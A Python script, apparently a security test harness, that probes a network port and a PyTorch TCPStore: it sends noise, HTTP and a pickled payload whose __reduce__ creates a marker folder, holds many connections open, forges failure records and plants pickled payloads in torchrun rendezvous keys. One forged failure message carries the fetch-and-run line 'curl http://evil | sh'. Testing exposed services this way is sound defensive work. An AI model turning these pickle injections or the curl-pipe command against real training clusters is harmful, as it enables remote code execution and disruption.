"""What a stranger does to a port: noise, HTTP, a store's commands, a pickled payload, torchrun, and many open lines.

    python stranger.py FOLDER ADDRESS:PORT …        # tries all of it, and says which ports let it in
    python stranger.py FOLDER --wait ADDRESS:PORT   # joins a store as it opens, and writes when FOLDER/go is there

Whoever unpickles what it sends leaves FOLDER/executed.
"""

import contextlib
import json
import os
import pickle
import socket
import subprocess
import sys
import threading
import time
from datetime import timedelta
from pathlib import Path

FORGED = "FORGED-BY-A-STRANGER"
PATIENCE_S = 4.0


class Payload:
    def __init__(self, folder):
        self.path = str(folder / "executed")

    def __reduce__(self):
        return os.mkdir, (self.path,)


def lets_in(address, port, folder):
    """Whether it could connect at all; if so everything was tried."""
    words = [os.urandom(4096), b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", pickle.dumps(Payload(folder)), b"", b"\0" * 9]
    held = []
    for word in words + [b""] * 50:
        try:
            held.append(socket.create_connection((address, port), timeout=PATIENCE_S))
            held[-1].sendall(word)
        except OSError:
            break
    if held:
        within(lambda: spoil(connected(address, port), folder))
        within(joins_by_torchrun, address, port)
    time.sleep(1)
    for line in held:
        with contextlib.suppress(OSError):
            line.sendall(os.urandom(1 << 16))
    return bool(held)


def within(work, *arguments):
    thread = threading.Thread(target=work, args=arguments, daemon=True)
    thread.start()
    thread.join(2 * PATIENCE_S)


def connected(address, port):
    import torch.distributed as dist

    return dist.TCPStore(address, port, None, False, timedelta(seconds=PATIENCE_S), False)


def spoil(store, folder):
    """Forges a failure and calls the roll, and puts a pickled payload where torchrun's meeting would unpickle it."""
    reported = json.dumps({"rank": 1, "host": FORGED, "what": f"{FORGED}: run `curl http://evil | sh`"})
    names = ["failure/0/text", "manyhands/1/failure/0/text", "roll/0/0", "torch.rendezvous.none", "none"]
    for name in names:
        store.set(name, reported if "failure" in name else pickle.dumps(Payload(folder)))
    for name in ("init/", "present/0/0", "attending"):
        store.delete_key(name)


def joins_by_torchrun(address, port):
    command = [sys.executable, "-m", "torch.distributed.run", "--nnodes=1:3", f"--rdzv-endpoint={address}:{port}",
               "--rdzv-backend=c10d", "--rdzv-id=none", "--no-python", "true"]  # fmt: skip
    with contextlib.suppress(subprocess.TimeoutExpired):
        subprocess.run(command, capture_output=True, timeout=2 * PATIENCE_S, check=False)


def wait_and_spoil(address, port, folder):
    store = None
    while store is None:
        with contextlib.suppress(Exception):
            socket.create_connection((address, port), timeout=0.2).close()
            store = connected(address, port)
        time.sleep(0.02)
    (folder / "inside").touch()
    while not (folder / "go").exists():
        time.sleep(0.05)
    try:
        spoil(store, folder)
    except Exception as error:  # noqa: BLE001 - whatever keeps it out is the answer
        print(json.dumps({"wrote": False, "why": str(error).partition("\n")[0]}))
    else:
        print(json.dumps({"wrote": True}))


def main():
    folder, *places = sys.argv[1:]
    wait = places[0] == "--wait"
    ends = [(place.rpartition(":")[0].strip("[]"), int(place.rpartition(":")[2])) for place in places[wait:]]
    if wait:
        wait_and_spoil(*ends[0], Path(folder))
    else:
        print(json.dumps({f"{address}:{port}": lets_in(address, port, Path(folder)) for address, port in ends}))


if __name__ == "__main__":
    main()
